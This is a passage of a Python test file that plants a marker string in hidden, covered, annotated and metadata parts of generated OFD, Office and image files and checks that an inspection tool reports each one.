    "nearly white": (lambda: ofd(T(LEAK, inside=_FILL.format("250 251 250"))), "hidden_text"),
    "tiny": (lambda: ofd(T(LEAK, size=0.2)), "hidden_text"),
    "beside the page": (lambda: ofd(T(LEAK, box="230 30 100 6")), "hidden_text"),
    "below the page": (lambda: ofd(T(LEAK, box="20 300 100 6")), "hidden_text"),
    "outside its own box": (lambda: ofd(T(LEAK, x=150)), "hidden_text"),
    "clipped away": (lambda: ofd(T(LEAK, inside="<ofd:Clips><ofd:Clip><ofd:Area><ofd:Path Boundary='0 0 1 1'><ofd:AbbreviatedData>M 0 0 L 1 0 L 1 1 C</ofd:AbbreviatedData></ofd:Path></ofd:Area></ofd:Clip></ofd:Clips>")), "hidden_text"),
    "a black box over it": (lambda: ofd(T(LEAK) + ofd_box("20 29 60 8")), "covered_text"),
    "a white box over its half": (lambda: ofd(T(LEAK) + ofd_box("30 29 60 8", "255 255 255")), "covered_text"),
    "a thick line over it": (lambda: ofd(T(LEAK) + '<ofd:PathObject Boundary="20 30 100 6" LineWidth="6"><ofd:AbbreviatedData>M 0 3 L 100 3</ofd:AbbreviatedData></ofd:PathObject>'), "covered_text"),
    "letters upon each other": (lambda: ofd(T(LEAK, delta="g 17 0")), "hidden_text"),
    "letters of no width": (lambda: ofd(T(LEAK, about='HScale="0.01"')), "hidden_text"),
    "a box in a block": (lambda: ofd(T(LEAK) + f'<ofd:PageBlock ID="5">{ofd_box("20 29 60 8")}</ofd:PageBlock>'), "covered_text"),
    "black on a black box": (lambda: ofd(ofd_box("20 29 60 8") + T(LEAK)), "hidden_text"),
    "a picture over it": (lambda: _pictured(T(LEAK), "15 25 90 20"), "covered_text"),
    "a watermark that covers": (lambda: _annotated("Watermark", "甲", ofd_box("20 29 60 8")), "annotations"),
    "a note": (lambda: _annotated("Highlight", LEAK), "annotations"),
    "a file": (lambda: ofd(T("甲"), document="<ofd:Attachments>Attachments.xml</ofd:Attachments>", more={"Doc_0/Attachments.xml": "<a><Attachment Name='a'><FileLoc>Attachs/a.docx</FileLoc></Attachment></a>", "Doc_0/Attachs/a.docx": "PK"}), "embedded_file"),
    "an earlier version": (lambda: ofd(T("甲"), body="<ofd:Versions><ofd:Version ID='1'/><ofd:Version ID='2'/></ofd:Versions>"), "earlier_revision"),
    "an action on opening": (lambda: ofd(T("甲"), document='<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://example.gov.cn"/></ofd:Action></ofd:Actions>'), "script"),
}  # fmt: skip


def _emf(text: str) -> bytes:
    """A metafile that draws a text."""
    said = text.encode("utf-16-le")
    said += bytes(-len(said) % 4)
    record = bytes(36) + len(text).to_bytes(4, "little") + (76).to_bytes(4, "little") + bytes(24)
    drawn = (84).to_bytes(4, "little") + (8 + len(record) + len(said)).to_bytes(4, "little") + record + said
    head = (1).to_bytes(4, "little") + (88).to_bytes(4, "little") + bytes(32) + b" EMF" + bytes(44)
    return head + drawn + (14).to_bytes(4, "little") + (20).to_bytes(4, "little") + bytes(12)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def _png(before: bytes = b"", after: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(out, "PNG")
    data = out.getvalue()
    start, end = data.index(b"IDAT") - 4, data.index(b"IEND") - 4
    return data[:start] + before + data[start:end] + after + data[end:]


def _png_text(text: str) -> bytes:
    return _png(after=_chunk(b"tEXt", b"Comment\0" + text.encode()))


def _exif(tags: dict[int, object]) -> bytes:
    exif = Image.Exif()
    for tag, value in tags.items():
        exif[tag] = value
    return exif.tobytes()


def _jpeg(*segments: tuple[int, bytes], exif: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(out, "JPEG", **({"exif": exif} if exif else {}))
    data = out.getvalue()
    more = b"".join(b"\xff" + bytes([marker]) + (len(body) + 2).to_bytes(2, "big") + body for marker, body in segments)
    return data[:2] + more + data[2:]


_IPTC = b"\x1c\x02\x78" + len(LEAK).to_bytes(2, "big") + LEAK.encode()
_BLOCK = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + len(_IPTC).to_bytes(4, "big") + _IPTC
_XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><d xmlns="urn:d" caption="%s"/></x:xmpmeta>' % LEAK.encode()
PICTURE = {
    "text before the picture": ("x.png", lambda: _png(before=_chunk(b"tEXt", b"Comment\0" + LEAK.encode()))),
    "text after the picture": ("x.png", lambda: _png_text(LEAK)),
    "compressed text": ("x.png", lambda: _png(after=_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(LEAK.encode())))),
    "international text": ("x.png", lambda: _png(after=_chunk(b"iTXt", b"C\0\1\0zh\0\0" + zlib.compress(LEAK.encode())))),
    "a private piece of PNG": ("x.png", lambda: _png(after=_chunk(b"prVt", LEAK.encode()))),
    "EXIF in PNG": ("x.png", lambda: _png(after=_chunk(b"eXIf", _exif({270: LEAK}).removeprefix(b"Exif\0\0")))),
    "a profile in hexadecimal digits": ("x.png", lambda: _png(after=_chunk(b"tEXt", b"Raw profile type iptc\0\niptc\n 9\n" + _IPTC.hex().encode()))),
    "a comment of JPEG": ("x.jpg", lambda: _jpeg((0xFE, LEAK.encode()))),
    "two comments": ("x.jpg", lambda: _jpeg((0xFE, b"a"), (0xFE, LEAK.encode()))),
    "IPTC": ("x.jpg", lambda: _jpeg((0xED, _BLOCK))),
    "XMP": ("x.jpg", lambda: _jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0" + _XMP))),
    "a private segment": ("x.jpg", lambda: _jpeg((0xE7, b"VENDOR\0" + LEAK.encode()))),
    "keywords of Windows": ("x.jpg", lambda: _jpeg(exif=_exif({0x9C9E: LEAK.encode("utf-16-le") + b"\0\0"}))),
    "a comment of Windows": ("x.jpg", lambda: _jpeg(exif=_exif({0x9C9C: LEAK.encode("utf-16-le")}))),
    "the title of EXIF": ("x.jpg", lambda: _jpeg(exif=_exif({270: LEAK}))),
    "the name of a camera": ("x.jpg", lambda: _jpeg(exif=_exif({272: LEAK}))),
    "a comment of GIF": ("x.gif", lambda: _gif(b"!\xfe" + bytes([len(LEAK)]) + LEAK.encode() + b"\0")),
    "a private piece of WebP": ("x.webp", lambda: _webp(b"PRIV" + len(LEAK).to_bytes(4, "little") + LEAK.encode())),
}  # fmt: skip


def _gif(extension: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()[:-1] + extension + b";"


def _webp(chunk: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "WEBP")
    data = out.getvalue()[8:] + chunk
    return b"RIFF" + len(data).to_bytes(4, "little") + data


ALL: dict[str, Sown] = {
    **{f"docx {how}": Sown("x.docx", make) for how, make in WORD.items()},
    **{f"docx hidden {how}": Sown("x.docx", make, "hidden_text") for how, make in HIDDEN_WORD.items()},
    **{f"docx found {how}": Sown("x.docx", make, fault) for how, (make, fault) in FOUND_WORD.items()},
    **{f"xlsx {how}": Sown("x.xlsx", make) for how, make in SHEET.items()},
    **{f"xlsx hidden {how}": Sown("x.xlsx", make, fault) for how, (make, fault) in HIDDEN_SHEET.items()},
    **{f"pptx {how}": Sown("x.pptx", make) for how, make in SLIDE.items()},
    **{f"pptx hidden {how}": Sown("x.pptx", make, fault) for how, (make, fault) in HIDDEN_SLIDE.items()},
    **{f"ofd {how}": Sown("x.ofd", make) for how, make in LAYOUT.items()},
    **{f"ofd hidden {how}": Sown("x.ofd", make, fault) for how, (make, fault) in HIDDEN_LAYOUT.items()},
    **{f"picture {how}": Sown(name, make) for how, (name, make) in PICTURE.items()},
}


def found(sown: Sown) -> Examined:
    return inspect_file(sown.name, sown.make())


@pytest.mark.parametrize("how", ALL)
def test_what_is_sown_is_found(how: str) -> None:
    sown = ALL[how]
    examined = found(sown)
    faults = {fault for fault, _ in examined.faults}
    if sown.found != TEXT:
        assert faults == {sown.found}
        return
    assert faults == set()
    said = [one for one in examined.passages if LEAK in one.text or "13800138000" in one.text]
    assert said
    # How numbers in addresses are judged is the scan's matter.
    assert "link leads" in how or {hit.value for hit in scan(examined.everything)} & {LEAK, "13800138000"}
    assert all(one.where for one in said) or how.startswith("picture")


def test_enough_is_sown() -> None:
    assert len(ALL) >= 60
